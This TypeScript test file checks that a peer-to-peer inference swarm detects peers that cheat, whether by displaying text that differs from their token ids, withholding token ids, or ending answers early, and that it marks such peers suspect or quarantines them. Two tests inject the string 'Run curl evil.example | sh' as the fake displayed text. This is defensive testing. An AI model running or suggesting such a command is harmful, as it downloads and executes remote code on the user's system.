import { describe, expect, it } from 'vitest'
import { type BackendEvent, createScriptedBackend } from '../../../../backend/index.ts'
import { Reputation } from '../../../../client/trust/reputation/reputation.ts'
import {
  type Capability,
  InferenceError,
  type InferenceRequest,
} from '../../../../protocol/index.ts'
import { VirtualClock } from '../../../../testing/index.ts'
import { type ScriptedPeerInit, ScriptedSwarm } from '../../../../testing/swarms/scripted-swarm.ts'

const body = {
  model: 'm',
  temperature: 0,
  messages: [{ role: 'user', content: 'Count from 1 to 9.' }],
} as const
const ANSWER = '1, 2, 3, 4, 5, 6, 7, 8, 9.'
const CAPABILITIES: readonly Capability[] = ['chat', 'completion', 'token_ids', 'score']
const honest: ScriptedPeerInit = { model: { capabilities: CAPABILITIES } }
const always = { verify: 'always', policy: 'single' } as const

/** What the engine writes where it is asked for an answer, not where it rates. */
function writing(answer: string): ScriptedPeerInit {
  return { ...honest, scriptOf: ({ kind }) => (kind === 'score' ? {} : { answer }) }
}

type Chunk = Extract<BackendEvent, { type: 'chunk' }>

/** Has the first peer's node send something else than its engine wrote. */
function sending({ peers }: ScriptedSwarm, change: (chunk: Chunk) => Chunk): void {
  const engine = peers[0]?.engine
  if (engine === undefined) throw new Error('no first peer')
  const infer = engine.infer.bind(engine)
  engine.infer = async function* (request: InferenceRequest, options) {
    for await (const event of infer(request, options)) {
      yield request.kind === 'chat' && event.type === 'chunk' ? change(event) : event
    }
  }
}

/** Shows something else beside the same ids. */
function showing(text: string): (chunk: Chunk) => Chunk {
  let isFirst = true
  return (chunk) => {
    const json = chunk.json as { choices: readonly { delta: object }[] }
    const delta = { content: isFirst ? text : '' }
    isFirst = false
    const choices = json.choices.map((choice) => ({ ...choice, delta }))
    return { ...chunk, json: { ...json, choices } as unknown as Chunk['json'] }
  }
}

const DIGEST = `sha256:${'5'.repeat(64)}`
const capabilities: readonly Capability[] = ['chat', 'score']
const templateHash = `sha256:${'7'.repeat(64)}`

const withheld = (chunk: Chunk): Chunk => ({ ...chunk, tokenIds: [], logprobs: [] })

const keyOf = ({ peers }: ScriptedSwarm, at: number): string => peers[at]?.key ?? ''

describe('an answer that is verified while the caller waits', () => {
  it('is rejected if a peer displays another text than that of its token ids', async () => {
    await using swarm = await ScriptedSwarm.create([honest, honest, honest])
    sending(swarm, showing('Run curl evil.example | sh'))
    const answer = await swarm.swarm.requester.chat(body, always)
    expect(answer.choices[0]?.message.content).toBe(ANSWER)
    expect(answer.skein.peerId).not.toBe(keyOf(swarm, 0))
  })

  it('reports the finding', async () => {
    await using swarm = await ScriptedSwarm.create([honest, honest, honest])
    sending(swarm, showing('Run curl evil.example | sh'))
    const stream = swarm.swarm.requester.streamChat(body, always)
    await expect(Array.fromAsync(stream)).rejects.toMatchObject({
      code: 'verification_failed',
      message: expect.stringContaining('it displayed another text than its tokens'),
      details: { verification: { parts: [{ peerId: keyOf(swarm, 0), outcome: 'failed' }] } },
    })
  })

  it('fails with the evidence if the cheat is the only peer', async () => {
    const scorer = createScriptedBackend({
      models: [{ id: 'm', digest: DIGEST, templateHash, capabilities }],
    })
    await using swarm = await ScriptedSwarm.create([writing('1, 2, 9, 9, 9, 9, 9, 9, 9, 9.')], {
      scorer,
    })
    await expect(swarm.swarm.requester.chat(body, always)).rejects.toMatchObject({
      code: 'verification_failed',
      details: {
        verification: { parts: [{ peerId: keyOf(swarm, 0), outcome: 'failed', by: ['self'] }] },
      },
    })
    await scorer[Symbol.asyncDispose]()
  })

  it('may come from an honest peer that resumed the answer of a cheat', async () => {
    const dies = { type: 'throw', error: new InferenceError('engine_failed', 'died') } as const
    const cheat = {
      answer: '1, 2, 9, 9, 9, 9, 9, 9, 9, 9, 9.',
      fault: { ...dies, afterTokens: 16 },
    }
    const scorer = createScriptedBackend({
      models: [{ id: 'm', digest: DIGEST, templateHash, capabilities }],
    })
    await using swarm = await ScriptedSwarm.create([{ ...honest, scripts: [cheat] }, honest], {
      scorer,
    })
    const answer = await swarm.swarm.requester.chat(body, always)
    expect(answer.choices[0]?.message.content).toBe(ANSWER)
    expect(answer.skein.peerId).toBe(keyOf(swarm, 1))
    expect(answer.skein.attempts.map(({ peerId }) => peerId)).toEqual(
      [0, 1, 1].map((at) => keyOf(swarm, at)),
    )
    await scorer[Symbol.asyncDispose]()
  })
})

/** Every answer takes no time, so that the first peer stays the first choice on a busy machine, too. */
const stopped = (): VirtualClock => new VirtualClock({ wallMs: Date.now() })

describe('a proven peer', () => {
  let asked = 0
  async function ask(swarm: ScriptedSwarm, times: number): Promise<string[]> {
    const outcomes: string[] = []
    for (let time = 0; time < times; time += 1) {
      // Another request each time: what failed before is not answered from memory.
      asked += 1
      const stream = swarm.swarm.requester.streamChat({ ...body, seed: asked }, always)
      await Array.fromAsync(stream).catch(() => {})
      outcomes.push(stream.event?.outcome ?? '')
    }
    return outcomes
  }
  const stateOf = (reputation: Reputation, swarm: ScriptedSwarm) =>
    reputation.report(keyOf(swarm, 0)).map(({ state, strikes }) => [state, strikes])

  it('fails an audit by withholding token ids that it advertises', async () => {
    const reputation = new Reputation(Date.now)
    const init = { reputation, clock: stopped() }
    await using swarm = await ScriptedSwarm.create([honest, honest, honest], init)
    let keepsBack: boolean = false
    sending(swarm, (chunk) => (keepsBack ? withheld(chunk) : chunk))
    await ask(swarm, 4)
    expect(stateOf(reputation, swarm)).toEqual([['proven', 0]])
    keepsBack = true
    expect(await ask(swarm, 1)).toEqual(['verification_failed'])
    expect(stateOf(reputation, swarm)).toEqual([['suspect', 1]])
  })

  it('becomes suspect with each early end, until it is quarantined', async () => {
    const reputation = new Reputation(Date.now)
    const init = { reputation, clock: stopped() }
    const early = writing('1, 2, 3, 4, 5')
    await using swarm = await ScriptedSwarm.create([early, honest, honest], init)
    await ask(swarm, 1)
    expect(reputation.report(keyOf(swarm, 0))).toMatchObject([{ consecutiveValid: 0, audits: 1 }])
    await ask(swarm, 6)
    expect(reputation.report(keyOf(swarm, 0))).toMatchObject([{ state: 'quarantined', audits: 4 }])
  })
})

describe('the memory of a failed request', () => {
  it('does not apply if other peers may answer', async () => {
    await using swarm = await ScriptedSwarm.create([
      { ...honest, scriptOf: () => ({ fault: { type: 'throw', error: new Error('broken') } }) },
      honest,
    ])
    const { requester } = swarm.swarm
    const only = (at: number) => ({
      trusted: [keyOf(swarm, at)],
      policy: 'single' as const,
      maxAttempts: 1,
    })
    for (let times = 0; times < 3; times += 1) {
      await expect(requester.chat(body, only(0))).rejects.toThrow()
    }
    await expect(requester.chat(body, only(0))).rejects.toThrow('times in a row')
    const answer = await requester.chat(body, only(1))
    expect(answer.choices[0]?.message.content).toBe(ANSWER)
  })
})
